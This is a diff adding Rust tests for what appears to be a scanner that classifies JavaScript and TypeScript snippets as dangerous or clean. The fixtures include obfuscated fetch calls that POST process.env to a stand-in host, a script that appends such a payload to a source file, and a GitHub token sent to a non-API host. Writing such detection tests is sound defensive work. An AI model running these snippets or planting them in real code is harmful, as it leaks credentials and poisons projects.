@@ -958,3 +958,80 @@ fn shell_functions_called_with_known_arguments() {
         check(Sh, code, *verdict, category);
     }
 }
+
+/// The globals reached through an alias of `globalThis` (or `window`, `global`) are the globals:
+/// `g.process.env`, `g["fe" + "tch"]`.
+#[test]
+fn globals_through_an_alias_of_global_this() {
+    let cases: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const g = globalThis;\nfetch('https://c.example.net/x', { method: 'POST', body: JSON.stringify(g.process.env) });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Ts,
+            "const g = globalThis as any;\ng['fe' + 'tch']('https://c.example.net/x', { method: 'POST', body: JSON.stringify(g['pro' + 'cess'].env) });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const w = globalThis;\nconsole.log(w.process.env.HOME);\n",
+            Clean,
+            "",
+        ),
+    ];
+    for (lang, code, verdict, category) in cases {
+        check(*lang, code, *verdict, category);
+    }
+}
+
+/// Code a script adds to a source file is reviewed as code when it makes calls, even when no
+/// word of it names a command; visible data is not.
+#[test]
+fn code_added_to_a_source_file_is_reviewed() {
+    let cases: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Ts,
+            "import { readFileSync, writeFileSync } from 'node:fs';\nconst f = 'src/a.ts';\n\
+             const add = ['', 'const g = globalThis as any;', 'g[\"fe\" + \"tch\"](\"https://c.example.net/x\", { method: \"POST\", body: JSON.stringify(g.process.env) });'].join('\\n');\n\
+             writeFileSync(f, readFileSync(f, 'utf8') + add);\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+        (
+            Ts,
+            "import { readFileSync, writeFileSync } from 'node:fs';\nconst f = 'src/a.ts';\n\
+             writeFileSync(f, readFileSync(f, 'utf8') + '\\nexport const started = Date.now();\\n');\n",
+            Clean,
+            "",
+        ),
+    ];
+    for (lang, code, verdict, category) in cases {
+        check(*lang, code, *verdict, category);
+    }
+}
+
+/// A request to an allowed API origin followed by a path known at run time goes to that host.
+#[test]
+fn api_origin_followed_by_a_run_time_path() {
+    let cases: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const t = process.env.GITHUB_TOKEN;\nasync function gh(p) {\n  return fetch(`https://api.github.com${p}`, { headers: { authorization: `Bearer ${t}` } });\n}\ngh(process.argv[2]);\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const t = process.env.GITHUB_TOKEN;\nasync function gh(p) {\n  return fetch(`https://hooks.example.net${p}`, { headers: { authorization: `Bearer ${t}` } });\n}\ngh(process.argv[2]);\n",
+            Dangerous,
+            "exfiltration",
+        ),
+    ];
+    for (lang, code, verdict, category) in cases {
+        check(*lang, code, *verdict, category);
+    }
+}
